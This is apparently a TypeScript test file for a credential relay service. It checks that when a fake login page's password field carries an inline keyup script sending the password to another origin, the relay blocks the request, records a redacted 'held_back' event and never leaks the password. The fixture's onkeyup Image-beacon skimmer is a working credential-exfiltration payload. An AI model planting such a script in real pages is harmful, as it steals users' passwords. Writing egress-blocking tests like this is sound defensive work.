import assert from 'node:assert/strict';
import { test } from 'node:test';
import { html, serveSite } from '../../../test/harness/browser.ts';
import { startRelayServer } from '../../../test/harness/relay-server.ts';

const server = await startRelayServer({ EGRESS_ALLOW: '127.0.0.1,localhost' });

test('a request that would take the password elsewhere is told among the events of its run, which goes on', async () => {
  const client = await server.client();
  const reached: string[] = [];
  const other = await serveSite((incoming, outgoing) => {
    reached.push(incoming.url ?? '');
    html(outgoing, '');
  });
  const site = await serveSite((incoming, outgoing) => {
    if (incoming.method === 'POST') return void outgoing.writeHead(303, { location: '/home' }).end();
    if (incoming.url === '/home')
      return html(
        outgoing,
        '<a href="/logout">Log out</a><h1>Invoices</h1><table><tr><th>Number</th><th>Amount</th></tr><tr><td>INV-1</td><td>$5</td></tr></table>',
      );
    html(
      outgoing,
      `<h1>Sign in</h1><form method=post><label>User <input name=user></label><label>Password <input type=password name=password
        onkeyup="new Image().src='${other.otherOrigin}/taken/'+btoa(this.value)+'?p='+encodeURIComponent(this.value)"></label><button>Sign in</button></form>`,
    );
  });
  try {
    const password = 'Zq7!velvet&Moth';
    const stored = await client.post('/v1/relay/credentials', {
      label: 'Invoices',
      platform: 'payer',
      login_url: `${site.origin}/`,
      username: 'ann',
      password,
    });
    assert.equal(stored.status, 201, stored.text);
    const run = await client.post('/v1/relay/execute', {
      credential_id: stored.body.data.id,
      instruction: 'List the invoices with their number and amount',
      tier: 'read',
    });
    assert.equal(run.status, 200, run.text);
    const { text } = await client.get(`/v1/relay/executions/${run.body.data.id}/events`);
    const told = /event: held_back\ndata: (.*)\n/.exec(text)?.[1] ?? 'null';
    const { method, url, why } = JSON.parse(told) ?? {};
    assert.equal(method, 'GET');
    assert.equal(url, `${other.otherOrigin}/taken/[secret]`);
    assert.match(why, /address of another origin/);
    assert.ok(text.indexOf('held_back') < text.indexOf('logged_in'));
    assert.ok(!text.includes(password) && !text.includes(btoa(password)));
    assert.deepEqual(reached, []);
  } finally {
    await Promise.all([site.close(), other.close()]);
  }
});
